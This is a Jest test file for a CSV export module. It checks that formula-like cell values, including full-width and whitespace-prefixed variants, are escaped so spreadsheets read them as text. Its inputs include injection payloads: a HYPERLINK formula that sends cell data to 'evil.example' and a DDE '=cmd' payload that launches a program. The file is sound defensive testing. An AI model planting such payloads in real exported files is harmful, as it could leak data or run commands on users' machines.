import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { csvHead, csvRows } from '../../src/formats/csv.ts';

const readBack = (text: string): string[][] => parse(text, { bom: true, record_delimiter: '\r\n' });

const cellOf = (text: string): string => readBack(csvRows([[text, 'next']]))[0]![0]!;

describe('a cell of a table', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '﹢1',
    '﹣1',
    '−1',
    ' =1+1',
    '\u00a0=1+1',
    '\u3000=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\r\n =1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
  ])('%j is read as text by a spreadsheet', text => {
    expect(cellOf(text)).toBe(`'${text.replace(/\p{Cc}/gu, '')}`);
  });

  test.each([
    'Doe v. Example',
    'a = b',
    '3:24-cv-04722',
    '2024-06-11',
    "'quoted'",
    '김철수, 이영희',
    'a "b" c',
    '1-2',
    '',
  ])('%j stays as it is', text => expect(cellOf(text)).toBe(text));

  test('whatever stands in it, it ends neither its cell nor its row, and no cell begins with what a spreadsheet computes', () => {
    return fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 2 }), { minLength: 1 }),
        rows => {
          const text = csvRows(rows);
          const read = readBack(text);
          expect(read.map(row => row.length)).toEqual(rows.map(() => 2));
          expect(text.split('\r\n')).toHaveLength(rows.length + 1);
          for (const cell of read.flat()) expect(cell.trim()).not.toMatch(/^[=+\-@＝＋－＠]/);
        },
      ),
    );
  });
});

test('a table begins with a byte order mark, by which spreadsheets know UTF-8', () => {
  expect([...Buffer.from(csvHead(['id', '사건'])).subarray(0, 5)]).toEqual([0xef, 0xbb, 0xbf, 0x69, 0x64]);
  expect(readBack(csvHead(['id', '사건']))).toEqual([['id', '사건']]);
});
